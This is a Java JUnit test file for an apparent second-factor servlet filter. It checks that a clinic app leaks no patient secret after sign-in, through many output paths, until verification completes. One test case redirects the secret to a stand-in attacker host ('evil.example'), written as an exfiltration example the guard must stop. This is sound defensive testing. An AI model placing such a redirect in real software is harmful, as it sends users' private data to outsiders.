package io.github.countersign.filter;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.countersign.gate.Decision;
import jakarta.servlet.AsyncContext;
import jakarta.servlet.DispatcherType;
import jakarta.servlet.ServletException;
import jakarta.servlet.http.Cookie;
import jakarta.servlet.http.HttpServletResponse;
import jakarta.servlet.http.HttpServletResponseWrapper;
import jakarta.servlet.http.HttpUpgradeHandler;
import jakarta.servlet.http.WebConnection;
import java.io.PrintWriter;
import java.util.Map;
import org.jspecify.annotations.NullUnmarked;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/** An application that checks the password and shows the first page in the same request. */
@NullUnmarked
class FirstOutputGuardTest {

    private static final String SECRET = Clinic.SECRET;

    private final Clinic clinic = new Clinic();

    /** What an application does to show something. */
    enum Output {
        WRITER((request, response) -> response.getWriter().write(SECRET)),
        WRITER_FLUSHED((request, response) -> {
            response.getWriter().println(SECRET);
            response.getWriter().flush();
        }),
        WRITER_CLOSED((request, response) -> {
            response.getWriter().append(SECRET).format("%s", SECRET);
            response.getWriter().close();
        }),
        STREAM((request, response) -> response.getOutputStream().write(SECRET.getBytes())),
        STREAM_PRINTED((request, response) -> response.getOutputStream().print(SECRET)),
        STREAM_FLUSHED((request, response) -> {
            response.getOutputStream().write(SECRET.getBytes());
            response.getOutputStream().flush();
        }),
        STREAM_CLOSED((request, response) -> {
            response.getOutputStream().write(SECRET.getBytes());
            response.getOutputStream().close();
        }),
        FLUSH_BUFFER((request, response) -> {
            response.getWriter().write(SECRET);
            response.flushBuffer();
        }),
        ERROR((request, response) -> response.sendError(500, SECRET)),
        HEADERS((request, response) -> {
            response.setHeader("X-Patient", SECRET);
            response.addHeader("X-Patient", SECRET);
            response.setContentType("application/pdf");
        }),
        REDIRECT_ELSEWHERE((request, response) -> response.sendRedirect("https://evil.example/?code=" + SECRET)),
        APPLICATIONS_OWN_WRAPPER((request, response) ->
                new HttpServletResponseWrapper(response).getWriter().write(SECRET)),
        EXCEPTION((request, response) -> {
            throw new ServletException(SECRET);
        }),
        ERROR_OF_THE_PLATFORM((request, response) -> {
            throw new AssertionError(SECRET);
        }),
        NOTHING((request, response) -> {});

        private final Clinic.Servlet servlet;

        Output(Clinic.Servlet servlet) {
            this.servlet = servlet;
        }
    }

    @ParameterizedTest
    @EnumSource(Output.class)
    void nothingGoesOutAfterASignIn(Output output) throws Exception {
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            output.servlet.service(request, response);
        };

        assertHandedOff(clinic.visit(login()));
    }

    @ParameterizedTest
    @EnumSource(Output.class)
    void nothingOfAnothersGoesOutAfterASignInByTheBodyOfAGet(Output output) throws Exception {
        clinic.verified();
        FakeRequest request =
                FakeRequest.page("/login").as("olivia").in(clinic.session).body("user=marcus&password=x");
        clinic.servlet = (passed, response) -> {
            request.user = "marcus";
            output.servlet.service(passed, response);
        };

        assertHandedOff(clinic.visit(request));
    }

    @ParameterizedTest
    @EnumSource(Output.class)
    void whatWasWrittenBeforeTheSignInIsTakenBack(Output output) throws Exception {
        clinic.servlet = (request, response) -> {
            response.setHeader("Content-Disposition", "attachment");
            if (output.name().startsWith("STREAM")) {
                response.getOutputStream().print("<html><h1>Clinic");
            } else {
                response.getWriter().write("<html><h1>Clinic");
            }
            request.login("olivia", "password");
            output.servlet.service(request, response);
        };

        FakeResponse response = clinic.visit(login());

        assertHandedOff(response);
        assertThat(response.header("Content-Disposition")).isNull();
    }

    @ParameterizedTest
    @EnumSource(Output.class)
    void aPageThatHasBegunEndsWhereTheSignInWas(Output output) throws Exception {
        clinic.servlet = (request, response) -> {
            if (output.name().startsWith("STREAM")) {
                response.getOutputStream().print("<h1>Clinic");
            } else {
                response.getWriter().write("<h1>Clinic");
            }
            response.flushBuffer();
            request.login("olivia", "password");
            output.servlet.service(request, response);
        };

        assertThat(clinic.visit(login()).body()).isEqualTo("<h1>Clinic");
    }

    @Test
    void thePageOfASignInIsNotRepeatedButHomeIsWanted() throws Exception {
        clinic.with("countersign.home", "/start");
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            response.getWriter().write(SECRET);
        };

        clinic.visit(FakeRequest.page("/magic-link?token=1").in(clinic.session));

        assertThat(SigningInVisit.in(clinic.session.http).wantedPage()).isEqualTo("/clinic/start");
    }

    @Test
    void cookiesSurvive() throws Exception {
        clinic.servlet = (request, response) -> {
            response.addCookie(new Cookie("before", "1"));
            request.login("olivia", "password");
            response.addCookie(new Cookie("after", "2"));
            response.addHeader("Set-Cookie", "theme=dark");
            response.getWriter().write(SECRET);
        };

        assertThat(clinic.visit(login()).cookies())
                .contains("before=1", "after=2", "theme=dark")
                .hasSize(4);
    }

    @Test
    void aRedirectWithinTheApplicationPasses() throws Exception {
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            response.sendRedirect("dashboard?welcome=1");
        };

        FakeResponse response = clinic.visit(login());

        assertThat(response.status).isEqualTo(302);
        assertThat(response.header("Location")).isEqualTo("dashboard?welcome=1");
        assertThat(clinic.gate.visits).isEmpty();
    }

    @Test
    void aRecognisedBrowserIsLetInWithinTheRequest() throws Exception {
        clinic.gate.decision = Decision.pass(FakeGate.TRUST, Decision.WITH_THE_SESSION);
        String before = clinic.session.id;
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            response.setHeader("X-Page", "dashboard");
            response.getWriter().write(SECRET);
        };

        FakeResponse response = clinic.visit(login());

        assertThat(response.body()).isEqualTo(SECRET);
        assertThat(response.header("X-Page")).isEqualTo("dashboard");
        assertThat(clinic.isStamped()).isTrue();
        assertThat(clinic.session.id).isNotEqualTo(before);
        assertThat(clinic.gate.questions).containsExactly("check");
    }

    @Test
    void aCommittedResponseIsLetGoWithoutAStamp() throws Exception {
        clinic.gate.decision = Decision.pass(FakeGate.TRUST, Decision.WITH_THE_SESSION);
        String before = clinic.session.id;
        clinic.servlet = (request, response) -> {
            response.flushBuffer();
            request.login("olivia", "password");
            response.getWriter().write(SECRET);
        };

        assertThat(clinic.visit(login()).body()).isEqualTo(SECRET);
        assertThat(clinic.isStamped()).isFalse();
        assertThat(clinic.session.id).isEqualTo(before);
    }

    @Test
    void aScriptThatSignsInIsAnsweredAsAScript() throws Exception {
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            response.setContentType("application/json");
            response.getWriter().write(SECRET);
        };
        FakeRequest request = FakeRequest.fetch("/login").in(clinic.session);
        request.method = "POST";

        FakeResponse response = clinic.visit(request);

        assertThat(response.status).isEqualTo(401);
        assertThat(response.body()).contains("second-factor-required").doesNotContain(SECRET);
        assertThat(clinic.gate.visits).isEmpty();
    }

    @Test
    void aServiceThatDoesNotAnswerCutsToo() throws Exception {
        clinic.gate.failure = new IllegalStateException();
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            response.getWriter().write(SECRET);
        };

        FakeResponse response = clinic.visit(login());

        assertThat(response.status).isEqualTo(503);
        assertThat(response.body()).doesNotContain(SECRET);
    }

    @Test
    void whoIsNotSignedInSeesThePublicPages() throws Exception {
        clinic.servlet = (request, response) -> {
            response.setHeader("X-Page", "welcome");
            response.getWriter().write("Welcome");
            response.getWriter().close();
        };

        FakeResponse response = clinic.visit(FakeRequest.page("/"));

        assertThat(response.body()).isEqualTo("Welcome");
        assertThat(response.header("X-Page")).isEqualTo("welcome");
        assertThat(response.committed).isTrue();
    }

    @Test
    void anApplicationThatFailsBeforeAnyoneSignsInFailsAsBefore() {
        clinic.servlet = (request, response) -> {
            throw new ServletException("broken");
        };

        assertThatThrownBy(() -> clinic.visit(FakeRequest.page("/"))).hasMessage("broken");
    }

    @ParameterizedTest
    @EnumSource(
            value = DispatcherType.class,
            names = {"FORWARD", "INCLUDE"})
    void nothingIsDispatchedAfterASignIn(DispatcherType type) throws Exception {
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            clinic.servlet =
                    (innerRequest, innerResponse) -> innerResponse.getWriter().write(SECRET);
            FakeRequest inner = FakeRequest.form("/WEB-INF/dashboard.jsp")
                    .as("olivia")
                    .in(clinic.session)
                    .dispatched(type);
            clinic.pass(inner.http, response);
        };

        assertHandedOff(clinic.visit(login()));
        assertThat(clinic.served).isEqualTo(1);
    }

    @Test
    void asynchronousWorkGoesOnWithTheGuardedPair() throws Exception {
        AsyncContext[] started = new AsyncContext[1];
        clinic.servlet = (request, response) -> started[0] = request.startAsync();
        FakeRequest request = login();
        FakeResponse response = clinic.visit(request);

        request.user = "olivia";
        started[0].getResponse().getWriter().write(SECRET);
        ((HttpServletResponse) started[0].getResponse()).flushBuffer();
        assertThat(response.committed).isFalse();
        started[0].complete();

        assertThat(request.async.completed).isTrue();
        assertThat(request.async.request).isInstanceOf(GuardedRequest.class);
        assertHandedOff(response);
    }

    @Test
    void aTimeoutDoesNotLetTheAnswerGo() throws Exception {
        clinic.servlet = (request, response) -> {
            response.getWriter().write("<h1>Clinic");
            request.startAsync();
        };
        FakeRequest request = login();
        FakeResponse response = clinic.visit(request);
        request.user = "olivia";

        request.async.timeOut();

        assertHandedOff(response);
    }

    @Test
    void anAsynchronousDispatchIsAnsweredByTheGuardThatBegan() throws Exception {
        clinic.servlet = (request, response) -> request.startAsync();
        FakeRequest request = login();
        FakeResponse response = clinic.visit(request);
        request.user = "olivia";
        request.asyncStarted = false;
        request.dispatched(DispatcherType.ASYNC);

        clinic.pass(request.http, (HttpServletResponse) request.async.response);

        assertThat(clinic.served).isEqualTo(1);
        assertHandedOff(response);
    }

    @Test
    void asynchronousWorkBegunAtTheContainersOwnRequestIsEnded() throws Exception {
        FakeRequest request = login();
        FakeResponse response = new FakeResponse();
        clinic.servlet = (passedRequest, passedResponse) -> {
            passedRequest.login("olivia", "password");
            request.http.startAsync(request.http, response.http);
            response.http.getWriter().write(SECRET);
        };
        PrintWriter writer = response.http.getWriter();

        clinic.pass(request.http, response.http);
        writer.write(SECRET);

        assertThat(request.async.completed).isTrue();
        assertThat(response.status).isEqualTo(303);
        assertThat(response.header("Location")).as("home, which leads on").isEqualTo("/clinic/");
        assertThat(response.body()).isEmpty();
        assertHandedOff(clinic.visit(FakeRequest.page("/").in(clinic.session)));
    }

    @Test
    void asynchronousWorkIsEndedAlsoWhenItCommitsTheResponseAtThatMoment() throws Exception {
        FakeRequest request = login();
        FakeResponse response = new FakeResponse();
        response.committedMeanwhile = true;
        clinic.servlet = (passedRequest, passedResponse) -> {
            passedRequest.login("olivia", "password");
            request.http.startAsync(request.http, response.http);
        };
        PrintWriter writer = response.http.getWriter();

        assertThatThrownBy(() -> clinic.pass(request.http, response.http)).isInstanceOf(IllegalStateException.class);
        writer.write(SECRET);

        assertThat(request.async.completed).isTrue();
        assertThat(response.body()).isEmpty();
    }

    @Test
    void aFileIsNotSentPastTheResponse() throws Exception {
        clinic.servlet = (request, response) -> {
            request.setAttribute("org.apache.tomcat.sendfile.filename", "/early");
            request.login("olivia", "password");
            request.setAttribute("org.glassfish.grizzly.http.SEND_FILE", "/patients.pdf");
            request.setAttribute("patients", "7");
        };
        FakeRequest request = login();

        assertHandedOff(clinic.visit(request));
        assertThat(request.attributes).containsOnlyKeys("patients");
        assertThat(request.attributesSet).doesNotContain("org.glassfish.grizzly.http.SEND_FILE");
    }

    @Test
    void noTrailersFollowOnceSomebodySignedIn() throws Exception {
        FakeRequest request = login();
        clinic.servlet = (passed, response) -> {
            response.setTrailerFields(() -> Map.of("X-Patient", SECRET));
            response.getWriter().write("Log in");
            response.flushBuffer();
        };

        FakeResponse response = clinic.visit(request);
        assertThat(response.trailers.get()).containsValue(SECRET);
        request.user = "olivia";

        assertThat(response.trailers.get()).isEmpty();
    }

    @Test
    void theConnectionIsNotUpgradedAfterASignIn() throws Exception {
        clinic.servlet = (request, response) -> {
            request.login("olivia", "password");
            request.upgrade(Handler.class);
        };
        FakeRequest request = login();

        assertHandedOff(clinic.visit(request));
        assertThat(request.upgraded).isFalse();
    }

    @Test
    void nothingIsPromisedToTheBrowserAfterASignIn() throws Exception {
        boolean[] promises = new boolean[2];
        clinic.servlet = (request, response) -> {
            promises[0] = request.newPushBuilder() != null;
            request.login("olivia", "password");
            promises[1] = request.newPushBuilder() != null;
        };

        assertHandedOff(clinic.visit(login()));
        assertThat(promises).containsExactly(true, false);
    }

    @Test
    void somebodyVerifiedWhoSignsInAsSomebodyElseSeesNothingOfThem() throws Exception {
        clinic.verified();
        clinic.servlet = (request, response) -> {
            request.logout();
            request.login("marcus", "password");
            response.getWriter().write(SECRET);
        };

        FakeResponse response = clinic.visit(
                FakeRequest.page("/switch?user=marcus&password=x").as("olivia").in(clinic.session));

        assertHandedOff(response);
        assertThat(SigningInVisit.in(clinic.session.http).account().name()).isEqualTo("marcus");
        assertThat(clinic.isStamped()).isFalse();
    }

    @ParameterizedTest
    @ValueSource(strings = {"REQUEST", "FORWARD", "ASYNC", "ERROR"})
    void somebodyVerifiedWhoSignsInAsSomebodyElseByThePathAloneSeesNothingOfThem(DispatcherType type) throws Exception {
        clinic.verified();
        clinic.servlet = (request, response) -> {
            request.login("marcus", "password");
            response.setHeader("X-Patient", SECRET);
            response.getWriter().write(SECRET);
        };

        FakeResponse response = clinic.visit(FakeRequest.page("/magic/marcus")
                .as("olivia")
                .in(clinic.session)
                .dispatched(type));

        assertHandedOff(response);
        assertThat(clinic.isStamped()).isFalse();
    }

    @Test
    void somebodyVerifiedWhoSignsInAsSomebodyElseByAHeaderSeesNothingOfThem() throws Exception {
        clinic.verified();
        clinic.servlet = (request, response) -> {
            request.login("marcus", "password");
            response.getWriter().write(SECRET);
            response.flushBuffer();
        };

        FakeResponse response = clinic.visit(FakeRequest.page("/dashboard")
                .header("Authorization", "Basic bWFyY3VzOng=")
                .as("olivia")
                .in(clinic.session));

        assertHandedOff(response);
    }

    @Test
    void aSignOutByALinkShowsItsPage() throws Exception {
        clinic.verified();
        clinic.servlet = (request, response) -> {
            request.logout();
            response.getWriter().write("Bye");
        };

        FakeResponse response =
                clinic.visit(FakeRequest.page("/logout").as("olivia").in(clinic.session));

        assertThat(response.body()).isEqualTo("Bye");
        assertThat(clinic.isStamped()).isFalse();
    }

    @Test
    void somebodyVerifiedPostsFormsAsBefore() throws Exception {
        clinic.verified();
        clinic.servlet = (request, response) -> response.getWriter().write("Saved");

        FakeResponse response =
                clinic.visit(FakeRequest.form("/save").as("olivia").in(clinic.session));

        assertThat(response.body()).isEqualTo("Saved");
        assertThat(clinic.gate.questions).isEmpty();
        assertThat(clinic.session.writes).isEmpty();
    }

    @Test
    void aSignOutByFormEndsTheStamp() throws Exception {
        clinic.verified();
        clinic.servlet = (request, response) -> {
            request.logout();
            response.getWriter().write("Bye");
        };

        FakeResponse response =
                clinic.visit(FakeRequest.form("/logout").as("olivia").in(clinic.session));

        assertThat(response.body()).isEqualTo("Bye");
        assertThat(clinic.isStamped()).isFalse();
    }

    private FakeRequest login() {
        return FakeRequest.form("/login").in(clinic.session);
    }

    private static void assertHandedOff(FakeResponse response) {
        assertThat(response.status).isEqualTo(303);
        assertThat(response.header("Location")).startsWith("/countersign/verify?ticket=");
        assertThat(response.header("Cache-Control")).isEqualTo("no-store");
        assertThat(response.header("X-Patient")).isNull();
        assertThat(response.header("Content-Type")).isNull();
        assertThat(response.body()).isEmpty();
    }

    /** Never reached. */
    static final class Handler implements HttpUpgradeHandler {
        @Override
        public void init(WebConnection connection) {}

        @Override
        public void destroy() {}
    }
}
